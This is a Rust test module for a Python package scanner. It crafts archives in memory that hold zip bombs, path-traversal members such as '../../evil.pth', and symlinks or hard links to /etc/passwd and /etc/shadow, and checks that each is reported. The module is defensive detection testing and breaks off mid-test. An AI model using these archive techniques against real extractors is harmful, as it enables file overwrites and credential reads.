//! End-to-end tests of the engine on archives crafted in memory: each case names
//! the finding a user would look for and the member path it must point at.

use super::detector::{Detector, DetectorMeta, Hit, Hits, Interest, Package, TextFile};
use super::{Limits, ScanReport, Scanner};
use crate::model::{Category, Evidence, Severity};
use std::io::{Cursor, Write};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

// ---- test-only detectors ----

static PROCESS: DetectorMeta = DetectorMeta {
    id: "execution.test-process",
    revision: 1,
    title: "Creates a process.",
    category: Category::Execution,
    severity: Severity::Medium,
    description: "Test detector: lines mentioning subprocess.",
};

/// Reports every line containing `subprocess`; counts how often it is called.
struct ProcessDetector(Arc<AtomicUsize>);

impl Detector for ProcessDetector {
    fn meta(&self) -> &'static DetectorMeta {
        &PROCESS
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&["subprocess"])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        self.0.fetch_add(1, Ordering::Relaxed);
        for (i, line) in file.text.lines().enumerate() {
            if let Some(col) = line.find("subprocess") {
                let evidence = Evidence {
                    path: file.path.into(),
                    line: Some(i as u32 + 1),
                    column: Some(line[..col].chars().count() as u32 + 1),
                    snippet: Some(line.trim().into()),
                    indicator: Some("subprocess".into()),
                    role: file.role,
                    severity: None,
                };
                hits.push(&PROCESS, Hit { severity: None, evidence });
            }
        }
    }
}

static SUMMARY: DetectorMeta = DetectorMeta {
    id: "metadata.test-summary",
    revision: 1,
    title: "Has a summary.",
    category: Category::Metadata,
    severity: Severity::Info,
    description: "Test detector: reports the core metadata summary and member count.",
};

/// A package-level detector: reports the Summary header and how many members it saw.
struct SummaryDetector;

impl Detector for SummaryDetector {
    fn meta(&self) -> &'static DetectorMeta {
        &SUMMARY
    }
    fn interest(&self) -> Interest {
        Interest::PackageOnly
    }
    fn scan_package(&self, pkg: &Package<'_>, hits: &mut Hits) {
        let Some(md) = pkg.core_metadata else { return };
        let md = crate::metadata::CoreMetadata::parse(md);
        let summary = md.get("Summary").map(|h| &*h.value).unwrap_or("");
        let evidence = Evidence {
            path: pkg.filename.into(),
            line: None,
            column: None,
            snippet: Some(format!("{summary}; {} members", pkg.members.len())),
            indicator: None,
            role: crate::model::FileRole::Metadata,
            severity: None,
        };
        hits.push(&SUMMARY, Hit { severity: None, evidence });
    }
}

pub(super) fn test_scanner(limits: Limits) -> (Scanner, Arc<AtomicUsize>) {
    let calls = Arc::new(AtomicUsize::new(0));
    let detectors: Vec<Box<dyn Detector>> = vec![Box::new(ProcessDetector(calls.clone())), Box::new(SummaryDetector)];
    (Scanner::with_detectors(limits, detectors), calls)
}

pub(super) fn scan_bytes(scanner: &Scanner, filename: &str, bytes: &[u8]) -> ScanReport {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("artifact");
    std::fs::write(&path, bytes).expect("write artifact");
    scanner.scan_file(&path, filename)
}

// ---- archive builders ----

pub(super) fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    zip_with(entries, zip::CompressionMethod::Deflated)
}

fn zip_with(entries: &[(&str, &[u8])], method: zip::CompressionMethod) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().compression_method(method);
    for (name, data) in entries {
        w.start_file(*name, opts).expect("start_file");
        w.write_all(data).expect("write");
    }
    w.finish().expect("finish").into_inner()
}

/// Replace every occurrence of `from` by `to` (same length) in raw archive bytes.
fn patch(mut bytes: Vec<u8>, from: &[u8], to: &[u8]) -> Vec<u8> {
    assert_eq!(from.len(), to.len());
    let mut n = 0;
    let mut i = 0;
    while i + from.len() <= bytes.len() {
        if &bytes[i..i + from.len()] == from {
            bytes[i..i + from.len()].copy_from_slice(to);
            n += 1;
        }
        i += 1;
    }
    assert!(n > 0, "patch target not found");
    bytes
}

/// Set the "encrypted" flag on every local and central header.
fn mark_encrypted(mut bytes: Vec<u8>) -> Vec<u8> {
    for (sig, flag_at) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
        let hits: Vec<usize> = bytes.windows(4).enumerate().filter(|(_, w)| w == sig).map(|(i, _)| i).collect();
        for i in hits {
            bytes[i + flag_at] |= 1;
        }
    }
    bytes
}

#[derive(Clone)]
pub(super) enum T<'a> {
    File(&'a [u8], &'a [u8]),
    Symlink(&'a str, &'a str),
    HardLink(&'a str, &'a str),
}

/// A gzipped tar. Names are written raw (the tar crate would refuse `..`).
pub(super) fn tar_gz(entries: &[T<'_>]) -> Vec<u8> {
    let tar = tar_of(entries);
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    enc.write_all(&tar).expect("gzip");
    enc.finish().expect("gzip")
}

fn tar_bz2(entries: &[T<'_>]) -> Vec<u8> {
    let tar = tar_of(entries);
    let mut enc = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    enc.write_all(&tar).expect("bzip2");
    enc.finish().expect("bzip2")
}

fn tar_of(entries: &[T<'_>]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        let (name, data, kind, link): (&[u8], &[u8], tar::EntryType, Option<&str>) = match e {
            T::File(n, d) => (n, d, tar::EntryType::Regular, None),
            T::Symlink(n, t) => (n.as_bytes(), b"", tar::EntryType::Symlink, Some(t)),
            T::HardLink(n, t) => (n.as_bytes(), b"", tar::EntryType::Link, Some(t)),
        };
        let mut h = tar::Header::new_gnu();
        h.as_old_mut().name[..name.len()].copy_from_slice(name);
        h.set_entry_type(kind);
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        if let Some(t) = link {
            h.set_link_name(t).expect("link name");
        }
        h.set_cksum();
        b.append(&h, data).expect("append");
    }
    b.into_inner().expect("tar")
}

/// The smallest thing `native_magic` calls PE: `MZ`, the `e_lfanew` pointer, `PE\0\0`.
fn pe_stub() -> Vec<u8> {
    let mut pe = vec![0u8; 0x48];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x40;
    pe[0x40..0x44].copy_from_slice(b"PE\0\0");
    pe
}

fn wheel_metadata(name: &str, version: &str) -> Vec<u8> {
    format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: a demo\n\nLong text.\n").into_bytes()
}

fn good_wheel() -> Vec<u8> {
    zip_of(&[
        ("demo/__init__.py", b"import subprocess\nsubprocess.run(['ls'])\n"),
        ("demo/util.py", b"x = 1\n"),
        ("demo-1.0.dist-info/METADATA", &wheel_metadata("demo", "1.0")),
        ("demo-1.0.dist-info/RECORD", b""),
    ])
}

fn ids(r: &ScanReport) -> Vec<&str> {
    r.findings.iter().map(|f| f.detector.as_str()).collect()
}

fn paths(r: &ScanReport, id: &str) -> Vec<String> {
    r.findings.iter().filter(|f| f.detector == id).flat_map(|f| f.evidence.iter().map(|e| e.path.clone())).collect()
}

// ---- tests ----

#[test]
fn clean_wheel_reports_only_detector_findings() {
    let (scanner, calls) = test_scanner(Limits::default());
    let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &good_wheel());
    assert_eq!(ids(&r), ["execution.test-process", "metadata.test-summary"]);
    let f = &r.findings[0];
    assert_eq!(f.message, "creates a process in demo/__init__.py:1 (import time) [subprocess], and 1 more location");
    assert_eq!(f.evidence[1].line, Some(2));
    assert_eq!(r.findings[1].evidence[0].snippet.as_deref(), Some("a demo; 4 members"));
    assert_eq!(calls.load(Ordering::Relaxed), 1, "prefilter: only the file mentioning subprocess is scanned");
    assert_eq!((r.stats.members, r.stats.text_members), (4, 4));
}

/// (case, artifact filename, builder, finding id, member path in evidence)
type AnomalyCase = (&'static str, &'static str, Box<dyn Fn() -> Vec<u8>>, &'static str, &'static str);

#[test]
fn engine_anomalies_name_the_member() {
    let zeros = vec![0u8; 80 << 20];
    let cases: Vec<AnomalyCase> = vec![
        (
            "zip bomb",
            "demo-1.0-py3-none-any.whl",
            Box::new(move || zip_of(&[("demo/zeros.bin", &zeros)])),
            "anomaly.archive-bomb",
            "demo/zeros.bin",
        ),
        (
            "zip path traversal",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| zip_of(&[("../../evil.pth", b"import os\n")])),
            "anomaly.path-traversal",
            "../../evil.pth",
        ),
        (
            "zip absolute path",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| zip_of(&[("/etc/cron.d/x", b"x")])),
            "anomaly.path-traversal",
            "/etc/cron.d/x",
        ),
        (
            "zip duplicate names",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| {
                patch(zip_of(&[("demo/dup_A.py", b"a = 1\n"), ("demo/dup_B.py", b"b = 2\n")]), b"dup_B.py", b"dup_A.py")
            }),
            "anomaly.duplicate-member",
            "demo/dup_A.py",
        ),
        (
            "zip non-UTF-8 name",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| patch(zip_of(&[("demo/caf_XX.py", b"x = 1\n")]), b"_XX", b"\xff\xfe_")),
            "anomaly.non-utf8-name",
            "demo/caf\u{fffd}\u{fffd}_.py",
        ),
        (
            "zip CRC mismatch",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| {
                patch(
                    zip_with(&[("demo/data.py", b"value = 1111\n")], zip::CompressionMethod::Stored),
                    b"1111",
                    b"2222",
                )
            }),
            "anomaly.crc-mismatch",
            "demo/data.py",
        ),
        (
            "zip encrypted member",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| mark_encrypted(zip_of(&[("demo/secret.py", b"x = 1\n")]))),
            "anomaly.encrypted-member",
            "demo/secret.py",
        ),
        (
            "truncated wheel",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| {
                let w = good_wheel();
                w[..w.len() / 2].to_vec()
            }),
            "anomaly.unreadable-archive",
            "demo-1.0-py3-none-any.whl",
        ),
        (
            "not an archive",
            "demo-1.0.tar.gz",
            Box::new(|| b"<html>not found</html>".to_vec()),
            "anomaly.unreadable-archive",
            "demo-1.0.tar.gz",
        ),
        ("empty file", "demo-1.0.tar.gz", Box::new(Vec::new), "anomaly.unreadable-archive", "demo-1.0.tar.gz"),
        (
            "truncated tar.gz",
            "demo-1.0.tar.gz",
            Box::new(|| {
                let t = tar_gz(&[T::File(b"demo-1.0/setup.py", &[b'#'; 5000])]);
                t[..t.len() - 30].to_vec()
            }),
            "anomaly.unreadable-archive",
            "demo-1.0/setup.py",
        ),
        (
            "tar symlink",
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::Symlink("demo-1.0/link", "/etc/passwd")])),
            "anomaly.tar-link",
            "demo-1.0/link",
        ),
        (
            "tar hard link",
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::HardLink("demo-1.0/hard", "/etc/shadow")])),
            "anomaly.tar-link",
            "demo-1.0/hard",
        ),
        (
            "tar path traversal",
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::File(b"demo-1.0/../../x.pth", b"import os\n")])),
            "anomaly.path-traversal",
            "demo-1.0/../../x.pth",
        ),
        (
            "tar duplicate names",
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::File(b"demo-1.0/a.py", b"1"), T::File(b"demo-1.0/a.py", b"2")])),
            "anomaly.duplicate-member",
            "demo-1.0/a.py",
        ),
        (
            "tar non-UTF-8 name",
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::File(b"demo-1.0/\xe9t\xe9.py", b"x = 1\n")])),
            "anomaly.non-utf8-name",
            "demo-1.0/\u{fffd}t\u{fffd}.py",
        ),
        (
            "tar.gz bomb",
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::File(b"demo-1.0/zeros", &[0u8; 3 << 20])])),
            "anomaly.archive-bomb",
            "demo-1.0.tar.gz",
        ),
        (
            "sdist with ELF binary",
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::File(b"demo-1.0/bin/helper", b"\x7fELF\x02\x01\x01\0\0\0\0\0")])),
            "anomaly.native-binary-in-sdist",
            "demo-1.0/bin/helper",
        ),
        (
            "sdist with .pyd",
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::File(b"demo-1.0/demo/_x.pyd", b"not really")])),
            "anomaly.native-binary-in-sdist",
            "demo-1.0/demo/_x.pyd",
        ),
        (
            "tar.bz2 sdist with .so",
            "demo-1.0.tar.bz2",
            Box::new(|| tar_bz2(&[T::File(b"demo-1.0/demo/_x.so", b"\x7fELF\x02")])),
            "anomaly.native-binary-in-sdist",
            "demo-1.0/demo/_x.so",
        ),
        (
            "zip sdist with a PE executable",
            "demo-1.0.zip",
            Box::new(|| zip_of(&[("demo-1.0/tools/run.exe", &pe_stub())])),
            "anomaly.native-binary-in-sdist",
            "demo-1.0/tools/run.exe",
        ),
        (
            "egg with traversal",
            "demo-1.0-py3.11.egg",
            Box::new(|| zip_of(&[("EGG-INFO/PKG-INFO", b"Name: demo\n"), ("../../x.py", b"x = 1\n")])),
            "anomaly.path-traversal",
            "../../x.py",
        ),
        (
            "METADATA name mismatch",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| zip_of(&[("demo-1.0.dist-info/METADATA", &wheel_metadata("other", "1.0"))])),
            "metadata.filename-mismatch",
            "demo-1.0.dist-info/METADATA",
        ),
        (
            "METADATA version mismatch",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| zip_of(&[("demo-1.0.dist-info/METADATA", &wheel_metadata("demo", "1.0.1"))])),
            "metadata.filename-mismatch",
            "demo-1.0.dist-info/METADATA",
        ),
    ];
    let (scanner, _) = test_scanner(Limits::default());
    for (case, filename, build, id, path) in cases {
        let r = scan_bytes(&scanner, filename, &build());
        assert!(paths(&r, id).iter().any(|p| p == path), "{case}: want {id} at {path}, got {:#?}", r.findings);
        let f = r.findings.iter().find(|f| f.detector == id).unwrap();
        assert!(f.message.contains(path), "{case}: message names the member: {}", f.message);
    }
}

/// A date library's sdist hard-links identical time-zone files to one member: the bytes
/// were scanned once, nothing points outside the archive. A hard link to a path that is not
/// an earlier member still is a finding.
#[test]
fn hard_links_to_earlier_members_are_not_anomalies() {
    let (scanner, _) = test_scanner(Limits::default());
    let cases: [(&str, Vec<u8>, bool); 3] = [
        (
            "hard link to an earlier member",
            tar_gz(&[
                T::File(b"demo-1.0/zoneinfo/Europe/Berlin", b"TZif2"),
                T::HardLink("demo-1.0/zoneinfo/Europe/Busingen", "demo-1.0/zoneinfo/Europe/Berlin"),
            ]),
            false,
        ),
        ("hard link outside the archive", tar_gz(&[T::HardLink("demo-1.0/hard", "/etc/shadow")]), true),
        (
            "hard link to a member that comes later",
            tar_gz(&[T::HardLink("demo-1.0/a", "demo-1.0/b"), T::File(b"demo-1.0/b", b"x")]),
            true,
        ),
    ];
    for (case, bytes, want) in cases {
        let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &bytes);
        assert_eq!(r.findings.iter().any(|f| f.detector == "anomaly.tar-link"), want, "{case}: {:#?}", r.findings);
    }
}

#[test]
fn zip_symlink_is_a_link_finding() {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    w.add_symlink("demo/link", "/etc/passwd", zip::write::SimpleFileOptions::default()).unwrap();
    let bytes = w.finish().unwrap().into_inner();
    let (scanner, _) = test_scanner(Limits::default());
    let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
    let f = r.findings.iter().find(|f| f.detector == "anomaly.tar-link").expect("link finding");
    assert_eq!(f.evidence[0].path, "demo/link");
    assert_eq!(f.evidence[0].snippet.as_deref(), Some("symbolic link to /etc/passwd"));
}

#[test]
fn matching_metadata_is_not_a_mismatch() {
    let (scanner, _) = test_scanner(Limits::default());
    let bytes = zip_of(&[("Demo_Pkg-1.0.dist-info/METADATA", &wheel_metadata("demo.pkg", "1.0.0"))]);
    let r = scan_bytes(&scanner, "Demo_Pkg-1.0-py3-none-any.whl", &bytes);
    assert_eq!(ids(&r), ["metadata.test-summary"], "only the package detector reports");
}

#[test]
fn nested_wheel_in_sdist_is_scanned_one_level_deep() {
    let inner = zip_of(&[("inner/evil.py", b"import subprocess\n")]);
    let deeper = zip_of(&[("x-1.0-py3-none-any.whl", &inner)]);
    let sdist = tar_gz(&[
        T::File(b"demo-1.0/PKG-INFO", &wheel_metadata("demo", "1.0")),
        T::File(b"demo-1.0/vendor/inner-1.0-py3-none-any.whl", &inner),
        T::File(b"demo-1.0/vendor/deep.zip", &deeper),
    ]);
    let (scanner, _) = test_scanner(Limits::default());
    let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &sdist);
    assert_eq!(paths(&r, "execution.test-process"), ["demo-1.0/vendor/inner-1.0-py3-none-any.whl!/inner/evil.py"]);
    assert_eq!(paths(&r, "anomaly.nesting-too-deep"), ["demo-1.0/vendor/deep.zip!/x-1.0-py3-none-any.whl"]);
    let pkg = &r.findings.iter().find(|f| f.detector == "metadata.test-summary").expect("PKG-INFO found").evidence[0];
    assert_eq!(pkg.snippet.as_deref(), Some("a demo; 5 members"), "members include nested ones");
}

#[test]
fn limits_are_findings_and_bound_what_is_read() {
    let big = vec![b'a'; 100_000];
    let cases: Vec<(&str, Limits, &str, &str)> = vec![
        (
            "member over size limit",
            Limits { max_member_bytes: 10_000, ..Limits::default() },
            "anomaly.limit-exceeded",
            "demo/big.py",
        ),
        ("too many members", Limits { max_members: 1, ..Limits::default() }, "anomaly.limit-exceeded", "demo/big.py"),
        (
            "total over limit",
            Limits { max_total_bytes: 50_000, ..Limits::default() },
            "anomaly.limit-exceeded",
            "demo/big.py",
        ),
    ];
    for (case, limits, id, path) in cases {
        let (scanner, _) = test_scanner(limits.clone());
        let bytes = zip_of(&[("demo/small.py", b"x = 1\n"), ("demo/big.py", &big)]);
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
        assert!(paths(&r, id).iter().any(|p| p == path), "{case}: want {id} at {path:?}, got {:#?}", r.findings);
        assert!(
            r.stats.uncompressed_bytes <= limits.max_total_bytes.min(limits.max_member_bytes * 2),
            "{case}: bounded read"
        );
    }
}

#[test]
fn the_time_limit_stops_the_walk_names_its_key_and_marks_the_report() {
    let bytes = zip_of(&[("demo/a.py", b"x = 1\n"), ("demo/b.py", b"y = 2\n")]);
    let cases = [("no time left", 0, true, 0), ("default time limit", Limits::default().max_scan_seconds, false, 2)];
    for (case, secs, cut, members) in cases {
        let (scanner, _) = test_scanner(Limits { max_scan_seconds: secs, ..Limits::default() });
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
        assert_eq!(r.stats.timed_out, cut, "{case}");
        assert_eq!(r.stats.members, members, "{case}: members scanned");
        let reason = r.incomplete_reason();
        assert_eq!(reason.as_deref().is_some_and(|w| w.contains("max_scan_seconds")), cut, "{case}: {reason:?}");
        let json = serde_json::to_value(&r).unwrap();
        assert_eq!(json["stats"].get("timed_out").is_some(), cut, "{case}: reports say it only when it happened");
    }
}

/// A scan's second walk (members install-time code runs, `reach`) counts `max_scan_seconds` from
/// the scan's start, not its own: a walk that starts with the time already spent stops at its
/// first member, and one with time left reads every member.
#[test]
fn a_later_walk_shares_the_scans_time_limit() {
    let bytes = zip_of(&[("demo/a.py", b"x = 1\n"), ("demo/b.py", b"y = 2\n")]);
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("artifact");
    std::fs::write(&path, &bytes).expect("write artifact");
    let limits = Limits { max_scan_seconds: 5, ..Limits::default() };
    let now = std::time::Instant::now();
    // (case, time already spent by the scan, the walk runs out of time, members read)
    let cases = [
        ("time spent by the first walk", std::time::Duration::from_secs(6), true, 0),
        ("time left", std::time::Duration::from_secs(1), false, 2),
    ];
    for (case, spent, cut, members) in cases {
        let Some(started) = now.checked_sub(spent) else { continue };
        let mut walker = super::archive::Walker::new(&limits, Recorder::default()).counting_from(started);
        walker.walk_file(&path, "demo-1.0-py3-none-any.whl");
        assert_eq!(walker.timed_out, cut, "{case}");
        assert_eq!(walker.visitor.members.len(), members, "{case}: members read");
        let limit: Vec<&str> =
            walker.visitor.anomalies.iter().filter(|a| a.0 == "anomaly.limit-exceeded").map(|a| a.1.as_str()).collect();
        let want: &[&str] = if cut { &["demo/a.py"] } else { &[] };
        assert_eq!(limit, want, "{case}: the first unread member is named as over the limit");
    }
}

#[test]
fn catalog_lists_engine_findings_first() {
    let ids: Vec<&str> = super::catalog().iter().map(|m| m.id).collect();
    assert_eq!(ids[0], "anomaly.unreadable-archive");
    for id in ["anomaly.path-traversal", "anomaly.crc-mismatch", "anomaly.archive-bomb", "metadata.filename-mismatch"] {
        assert!(ids.contains(&id), "{id}");
    }
}

#[test]
fn damaged_archives_never_panic_and_never_look_clean() {
    let sources = [
        ("demo-1.0-py3-none-any.whl", good_wheel()),
        (
            "demo-1.0.tar.gz",
            tar_gz(&[
                T::File(b"demo-1.0/setup.py", b"import subprocess\n"),
                T::File(b"demo-1.0/PKG-INFO", b"Name: demo\n"),
            ]),
        ),
    ];
    let (scanner, _) = test_scanner(Limits::default());
    for (filename, original) in sources {
        let mut damaged = 0;
        for i in 0..original.len() {
            // Deterministic damage: flip one byte, or cut the archive short.
            let bytes = if i % 2 == 0 {
                let mut b = original.clone();
                b[i] ^= 0x5a;
                b
            } else {
                original[..i].to_vec()
            };
            let r = scan_bytes(&scanner, filename, &bytes);
            let flagged =
                r.findings.iter().any(|f| f.category == Category::Anomaly || f.category == Category::Metadata);
            damaged += usize::from(flagged);
            if i % 2 == 1 {
                assert!(flagged, "{filename} cut at {i} bytes must not look clean: {:#?}", r.findings);
            }
        }
        assert!(damaged > original.len() / 2, "{filename}: most damage is reported ({damaged}/{})", original.len());
    }
}

/// A wheel over `PARALLEL_MIN_BYTES`: an incompressible blob plus many text members.
fn large_wheel() -> Vec<u8> {
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let noise: Vec<u8> = (0..(3 << 20))
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    let texts: Vec<(String, Vec<u8>)> = (0..200)
        .map(|i| (format!("demo/m{i:03}.py"), format!("x = {i}\nimport subprocess  # {i}\n").into_bytes()))
        .collect();
    let mut entries: Vec<(&str, &[u8])> = vec![("demo/blob.bin", &noise)];
    entries.extend(texts.iter().map(|(n, d)| (n.as_str(), d.as_slice())));
    entries.push(("demo-1.0.dist-info/METADATA", b"Name: demo\nVersion: 1.0\nSummary: big\n"));
    zip_of(&entries)
}

#[test]
fn threads_do_not_change_the_report() {
    let bytes = large_wheel();
    assert!(bytes.len() as u64 >= super::PARALLEL_MIN_BYTES, "the parallel path is taken");
    let (one, _) = test_scanner(Limits::default());
    let (four, calls) = test_scanner(Limits::default());
    let (one, four) = (one.with_threads(1), four.with_threads(4));
    let a = scan_bytes(&one, "demo-1.0-py3-none-any.whl", &bytes);
    let b = scan_bytes(&four, "demo-1.0-py3-none-any.whl", &bytes);
    assert_eq!(calls.load(Ordering::Relaxed), 200, "every text member with the literal was scanned once");
    assert_eq!(a.findings, b.findings);
    assert_eq!(a.stats, b.stats);
    assert_eq!(paths(&b, "execution.test-process")[0], "demo/m000.py", "walk order kept");
    assert_eq!(
        b.findings[0].message,
        "creates a process in demo/m000.py:2 (import time) [subprocess], and 199 more locations"
    );
}

static PANICS: DetectorMeta = DetectorMeta {
    id: "execution.test-panics",
    revision: 1,
    title: "Panics.",
    category: Category::Execution,
    severity: Severity::Low,
    description: "Test detector that panics.",
};

struct PanicDetector;

impl Detector for PanicDetector {
    fn meta(&self) -> &'static DetectorMeta {
        &PANICS
    }
    fn interest(&self) -> Interest {
        Interest::AllText
    }
    fn scan_text(&self, file: &TextFile<'_>, _hits: &mut Hits) {
        if file.path.ends_with("m100.py") {
            panic!("detector bug");
        }
    }
}

#[test]
fn a_detector_panic_on_a_worker_reaches_the_caller_without_deadlock() {
    let bytes = large_wheel();
    let scanner = Scanner::with_detectors(Limits::default(), vec![Box::new(PanicDetector)]).with_threads(2);
    let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes)
    }));
    assert!(result.is_err(), "the panic is not swallowed (the gate fails closed on it)");
}

// ---- bounded memory ----

/// Records what the walker hands on, for asserting on the walker alone.
#[derive(Default)]
struct Recorder {
    members: Vec<(String, u64, bool, usize)>,
    anomalies: Vec<(&'static str, String)>,
}

impl super::archive::Visitor for Recorder {
    fn member(&mut self, m: &super::archive::Member<'_>, data: &[u8]) {
        self.members.push((m.path.to_string(), m.size, m.streamed, data.len()));
    }
    fn anomaly(&mut self, meta: &'static DetectorMeta, path: &str, _detail: String) {
        self.anomalies.push((meta.id, path.to_string()));
    }
}

/// `len` bytes that are binary from the first byte (NULs) and do not compress much.
fn binary_blob(len: usize) -> Vec<u8> {
    let mut x: u32 = 0x1234_5678;
    (0..len)
        .map(|i| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            if i % 16 == 0 {
                0
            } else {
                x as u8
            }
        })
        .collect()
}

#[test]
fn a_big_binary_member_streams_through_a_small_buffer() {
    let len = 40 << 20; // larger than the text cap and than a reasonable buffer
    let blob = binary_blob(len);
    let bytes = zip_with(&[("demo/small.py", b"x = 1\n"), ("demo/data.bin", &blob)], zip::CompressionMethod::Stored);
    drop(blob);
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("artifact");
    std::fs::write(&path, &bytes).expect("write artifact");
    let limits = Limits::default();
    let mut walker = super::archive::Walker::new(&limits, Recorder::default());
    walker.walk_file(&path, "demo-1.0-py3-none-any.whl");
    let rec = &walker.visitor;
    assert!(rec.anomalies.is_empty(), "{:?}", rec.anomalies);
    let big = rec.members.iter().find(|m| m.0 == "demo/data.bin").expect("member seen");
    assert_eq!((big.1, big.2), (len as u64, true), "read to the end, streamed");
    assert!(big.3 <= super::archive::HEAD, "only the head is handed on: {}", big.3);
    assert_eq!(walker.total, len as u64 + 6);
    assert!(walker.peak_buffer < 1 << 20, "buffers grew to {} bytes", walker.peak_buffer);

    // Streamed members are still checked: a changed byte is a CRC mismatch.
    let mut broken = bytes;
    let at = broken.len() / 2;
    broken[at] ^= 0xff;
    let (scanner, _) = test_scanner(Limits::default());
    let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &broken);
    assert_eq!(paths(&r, "anomaly.crc-mismatch"), ["demo/data.bin"]);
    assert!(paths(&r, "anomaly.limit-exceeded").is_empty());
    assert_eq!(r.stats.binary_members, 1);
}

#[test]
fn an_oversized_text_member_is_scanned_up_to_the_cap() {
    let mut text = b"import subprocess  # early\n".to_vec();
    while text.len() < 300_000 {
        text.extend_from_slice(b"x = 1\n");
    }
    text.extend_from_slice(b"import subprocess  # late\n");
    let limits = Limits { max_text_bytes: 100_000, ..Limits::default() };
    let (scanner, _) = test_scanner(limits);
    let bytes = zip_of(&[("demo/big.py", &text)]);
    let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
    assert_eq!(paths(&r, "anomaly.limit-exceeded"), ["demo/big.py"]);
    let f = r.findings.iter().find(|f| f.detector == "execution.test-process").expect("early hit found");
    assert_eq!(f.evidence.len(), 1, "only the scanned part: {:?}", f.evidence);
    assert_eq!(f.evidence[0].line, Some(1));
    assert_eq!(r.stats.truncated_members, 1);
    assert_eq!(r.stats.uncompressed_bytes, 100_000);
    // Medium: annotated, not blocked, under the default policy.
    let limit = super::anomaly::catalog().into_iter().find(|m| m.id == "anomaly.limit-exceeded").expect("meta");
    assert_eq!(limit.severity, Severity::Medium);
}

#[test]
fn an_oversized_data_member_is_scanned_whole_in_windows() {
    // A data file or test fixture over the text cap (a recorded HTTP cassette, an XML test
    // file, a generated dump) is read in line-aligned windows: every byte is seen, so the
    // artifact is not failed closed, and a hit anywhere keeps its line in the member. Code
    // over the cap stays cut and reported (its detectors need the whole file).
    fn big(lines: usize) -> Vec<u8> {
        let mut t = b"{\"cmd\": \"subprocess early\"}\n".to_vec();
        for i in 0..lines {
            t.extend_from_slice(format!("{{\"row\": {i}, \"pad\": \"xxxxxxxxxxxxxxxxxxxxxxxx\"}}\n").as_bytes());
        }
        t.extend_from_slice(b"{\"cmd\": \"subprocess late\"}\n");
        t
    }
    let text = big(20_000); // about 1 MB: ten windows of a 100 kB cap
    let last_line = 20_002;
    let limits = Limits { max_text_bytes: 100_000, ..Limits::default() };
    let (scanner, _) = test_scanner(limits.clone());
    // (case, member path, limit reported, lines of the hits)
    let cases: [(&str, &str, Vec<&str>, Vec<u32>); 4] = [
        ("a package data file", "demo/generated/dump.json", vec![], vec![1, last_line]),
        ("a test fixture", "demo/tests/cassettes/big.json", vec![], vec![1, last_line]),
        ("python code stays cut", "demo/big_module.py", vec!["demo/big_module.py"], vec![1]),
        ("a python test module stays cut", "demo/tests/test_big.py", vec!["demo/tests/test_big.py"], vec![1]),
    ];
    for (case, path, limited, lines) in cases {
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &zip_of(&[(path, &text)]));
        assert_eq!(paths(&r, "anomaly.limit-exceeded"), limited, "{case}");
        let f = r.findings.iter().find(|f| f.detector == "execution.test-process").expect(case);
        let got: Vec<u32> = f.evidence.iter().filter_map(|e| e.line).collect();
        assert_eq!(got, lines, "{case}: each hit once, at its line in the member");
        if limited.is_empty() {
            assert_eq!(r.stats.truncated_members, 0, "{case}");
            assert_eq!(r.stats.uncompressed_bytes, text.len() as u64, "{case}: every byte read");
        }
    }
    // One line longer than the cap (a one-line JSON dump) is read in byte windows cut at
    // character boundaries, each repeating the last 16 KiB of the one before: every byte is
    // seen, a hit across a cut is found once, at its column in the member's line. Code on one
    // such line stays cut and reported (fail closed).
    let mut one_line = "é".repeat(100_000).into_bytes(); // two-byte characters: cuts fall inside them
    one_line.extend_from_slice(b" subprocess ");
